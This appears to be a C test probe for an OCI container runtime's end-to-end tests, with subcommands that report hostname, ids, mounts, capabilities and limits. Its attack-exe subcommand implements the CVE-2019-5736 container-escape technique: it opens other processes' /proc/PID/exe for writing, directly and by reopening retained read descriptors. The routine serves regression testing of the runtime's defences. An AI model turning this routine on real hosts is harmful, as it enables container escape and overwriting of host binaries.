/* init.c: a static probe run inside containers by tests/e2e/runtime_oci.bats
 * (crun's tests/init.c does the same job). Each subcommand prints one fact
 * about the process's view of the world, or tries one thing and prints
 * what the kernel said:
 *   hostname | id | cwd | fds | mounts | caps | isatty | env NAME
 *   rlimit nofile|nproc       soft and hard limit
 *   write PATH                "ok" or the errno name of creating PATH
 *   mount DIR                 the errno name of mounting a tmpfs on DIR
 *   cat PATH                  the file, or the errno name
 *   pause                     sleep until killed
 *   attack-exe SECONDS        CVE-2019-5736: every other process's
 *                             /proc/PID/exe opened for writing, directly
 *                             and by reopening a read fd after the process
 *                             is gone; prints WROTE ... on any success
 * Several subcommands may follow each other: `init hostname id cwd`.
 * Built with `cc -static` (the bats file does it); needs only libc. */
#include "config.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static const char *errname(int e)
{
	switch (e) {
	case EPERM:
		return "EPERM";
	case EACCES:
		return "EACCES";
	case EROFS:
		return "EROFS";
	case ENOENT:
		return "ENOENT";
	case ETXTBSY:
		return "ETXTBSY";
	case ELOOP:
		return "ELOOP";
	case ENOTDIR:
		return "ENOTDIR";
	case EINVAL:
		return "EINVAL";
	case EBUSY:
		return "EBUSY";
	case EBADF:
		return "EBADF";
	default:
		return strerror(e);
	}
}

static void print_file(const char *path)
{
	char buf[4096];
	ssize_t n;
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	if (fd < 0) {
		printf("%s\n", errname(errno));
		return;
	}
	while ((n = read(fd, buf, sizeof(buf))) > 0)
		fwrite(buf, 1, (size_t)n, stdout);
	close(fd);
}

/* the fds open in this process, but the one reading /proc/self/fd */
static void print_fds(void)
{
	DIR *d = opendir("/proc/self/fd");
	struct dirent *de;
	int self = d ? dirfd(d) : -1;
	const char *sep = "";

	while (d && (de = readdir(d)) != NULL) {
		if (de->d_name[0] == '.' || atoi(de->d_name) == self)
			continue;
		printf("%s%s", sep, de->d_name);
		sep = " ";
	}
	printf("\n");
	if (d)
		closedir(d);
}

static void print_caps(void)
{
	char line[256];
	FILE *f = fopen("/proc/self/status", "re");

	while (f && fgets(line, sizeof(line), f))
		if (strncmp(line, "Cap", 3) == 0)
			fputs(line, stdout);
	if (f)
		fclose(f);
}

static void print_id(void)
{
	gid_t groups[64];
	int n = getgroups(64, groups), i;

	printf("uid=%u gid=%u groups=", (unsigned)getuid(), (unsigned)getgid());
	for (i = 0; i < n; i++)
		printf("%s%u", i ? "," : "", (unsigned)groups[i]);
	printf("\n");
}

static void print_rlimit(const char *which)
{
	struct rlimit r;
	int res = strcmp(which, "nproc") == 0 ? RLIMIT_NPROC : RLIMIT_NOFILE;

	getrlimit(res, &r);
	printf("%llu %llu\n", (unsigned long long)r.rlim_cur, (unsigned long long)r.rlim_max);
}

static void try_write(const char *path)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);

	if (fd < 0) {
		printf("%s\n", errname(errno));
		return;
	}
	close(fd);
	unlink(path);
	printf("ok\n");
}

static void try_mount(const char *dir)
{
	if (mount("tmpfs", dir, "tmpfs", 0, NULL) == 0) {
		umount(dir);
		printf("ok\n");
	} else {
		printf("%s\n", errname(errno));
	}
}

/* ------------------------------------------------------------ attack-exe */

#define KEEP_MAX 256

struct attack {
	int kept[KEEP_MAX];
	char target[KEEP_MAX][128];
	int n_kept, pids_seen, eacces, wrote;
};

static void attack_pid(struct attack *a, int pid)
{
	char path[64], tgt[128];
	ssize_t tl;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
	if (fd >= 0) {
		tl = readlink(path, tgt, sizeof(tgt) - 1);
		tgt[tl > 0 ? tl : 0] = '\0';
		if (write(fd, "", 0) == 0 && write(fd, "#", 1) == 1) {
			printf("WROTE direct %s\n", tgt);
			a->wrote++;
		}
		close(fd);
	}
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		a->eacces += errno == EACCES || errno == EPERM;
		return;
	}
	if (a->n_kept >= KEEP_MAX) {
		close(fd);
		return;
	}
	tl = readlink(path, a->target[a->n_kept], sizeof(a->target[0]) - 1);
	a->target[a->n_kept][tl > 0 ? tl : 0] = '\0';
	a->kept[a->n_kept++] = fd;
}

/* after the processes are gone: the read fds reopened for writing */
static void attack_reopen(struct attack *a)
{
	int i;

	for (i = 0; i < a->n_kept; i++) {
		char path[64];
		int fd;

		snprintf(path, sizeof(path), "/proc/self/fd/%d", a->kept[i]);
		fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
		if (fd >= 0 && write(fd, "#", 1) == 1) {
			printf("WROTE reopen %s\n", a->target[i]);
			a->wrote++;
		}
		if (fd >= 0)
			close(fd);
	}
}

static void attack_exe(int seconds)
{
	static struct attack a;
	time_t end = time(NULL) + seconds;
	int self = getpid(), i;
	char seen[65536] = { 0 };

	while (time(NULL) < end) {
		DIR *d = opendir("/proc");
		struct dirent *de;

		while (d && (de = readdir(d)) != NULL) {
			int pid = atoi(de->d_name);
			if (pid <= 0 || pid == self)
				continue;
			if (pid < (int)sizeof(seen) && !seen[pid]) {
				seen[pid] = 1;
				a.pids_seen++;
			}
			attack_pid(&a, pid);
		}
		if (d)
			closedir(d);
	}
	attack_reopen(&a);
	printf("pids-seen=%d refused=%d opened=%d wrote=%d\n", a.pids_seen, a.eacces, a.n_kept,
	       a.wrote);
	for (i = 0; i < a.n_kept; i++)
		if (i == 0 || strcmp(a.target[i], a.target[i - 1]) != 0)
			printf("exe %s\n", a.target[i]);
}

/* ------------------------------------------------------------ main */

int main(int argc, char **argv)
{
	char buf[4096];
	int i;

	setvbuf(stdout, NULL, _IOLBF, 0);
	for (i = 1; i < argc; i++) {
		const char *c = argv[i], *arg = i + 1 < argc ? argv[i + 1] : "";

		if (strcmp(c, "hostname") == 0) {
			gethostname(buf, sizeof(buf));
			printf("%s\n", buf);
		} else if (strcmp(c, "id") == 0) {
			print_id();
		} else if (strcmp(c, "cwd") == 0) {
			printf("%s\n", getcwd(buf, sizeof(buf)) ? buf : errname(errno));
		} else if (strcmp(c, "fds") == 0) {
			print_fds();
		} else if (strcmp(c, "mounts") == 0) {
			print_file("/proc/self/mountinfo");
		} else if (strcmp(c, "caps") == 0) {
			print_caps();
		} else if (strcmp(c, "isatty") == 0) {
			printf("%d %d %d\n", isatty(0), isatty(1), isatty(2));
		} else if (strcmp(c, "env") == 0 && i++) {
			printf("%s\n", getenv(arg) ? getenv(arg) : "(unset)");
		} else if (strcmp(c, "rlimit") == 0 && i++) {
			print_rlimit(arg);
		} else if (strcmp(c, "write") == 0 && i++) {
			try_write(arg);
		} else if (strcmp(c, "mount") == 0 && i++) {
			try_mount(arg);
		} else if (strcmp(c, "cat") == 0 && i++) {
			print_file(arg);
		} else if (strcmp(c, "pause") == 0) {
			for (;;)
				pause();
		} else if (strcmp(c, "attack-exe") == 0 && i++) {
			attack_exe(atoi(arg));
		} else {
			fprintf(stderr, "init: unknown command %s\n", c);
			return 2;
		}
	}
	return 0;
}
